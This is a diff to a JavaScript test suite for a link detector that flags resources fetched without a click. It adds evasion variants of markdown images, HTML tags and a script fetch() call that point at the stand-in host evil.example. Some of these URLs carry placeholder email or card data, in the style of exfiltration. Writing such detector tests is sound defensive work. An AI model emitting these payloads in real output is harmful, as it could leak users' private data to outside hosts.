@@ -23,6 +23,18 @@ describe('findLinks', () => {
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '<p style="background: url(https://evil.example/p)">',
     '<style>@import "https://evil.example/s.css"</style>',
+    '![x](     https://evil.example/p)',
+    `![${'a '.repeat(900)}](https://evil.example/p)`,
+    '> ![a][1]\n>\n> [1]: https://evil.example/p',
+    '- ![a][1]\n\n- [1]: https://evil.example/p',
+    '![a][1]\n\n> [1]:\n>   https://evil.example/p',
+    '<img alt="a>b" src="https://evil.example/p">',
+    `<img${' '.repeat(300)}src="https://evil.example/p">`,
+    `<img alt='${'a'.repeat(320)}' src = https://evil.example/p>`,
+    `<svg><image foo="${'a'.repeat(260)}" href='https://evil.example/p'>`,
+    '<script>fetch("https://evil.example/p")</script>',
+    '[more](https://evil.example/?q=[EMAIL_1])',
+    'https://evil.example/%5BCARD_1%5D',
   ])('says what is fetched without a click in %j', (text) => {
     expect(linksOf(text)).toEqual(['FETCHED_LINK evil.example']);
   });
@@ -31,12 +43,18 @@ describe('findLinks', () => {
     ['Read https://docs.example.org/a.', 'docs.example.org'],
     ['[docs](https://docs.example.org/a)', 'docs.example.org'],
     ['![x](a.png) and [docs](https://docs.example.org/a)', 'docs.example.org'],
+    ['<script src="a.js"></script><a title="a>b" href="https://docs.example.org">docs</a>', 'docs.example.org'],
     ['<a href="https://docs.example.org">docs</a>', 'docs.example.org'],
     ['www.example.org has it', 'www.example.org'],
     ['[docs][1]\n\n[1]: https://docs.example.org/a', 'docs.example.org'],
     ['https://user@bücher.example/', 'xn--bcher-kva.example'],
   ])('says where a click leads to in %j', (text, host) => {
     expect(linksOf(text)).toEqual([`LINK ${host}`]);
+  });
+
+  it('says what is fetched when its text is a link', () => {
+    const text = '![[l](https://ok.example)](https://evil.example)';
+    expect(linksOf(text)).toContain('FETCHED_LINK evil.example');
   });
 
   it.each(['a // comment', 'and/or', 'C:\\\\temp', 'https', '12:30', ''])('finds none in %j', (text) => {
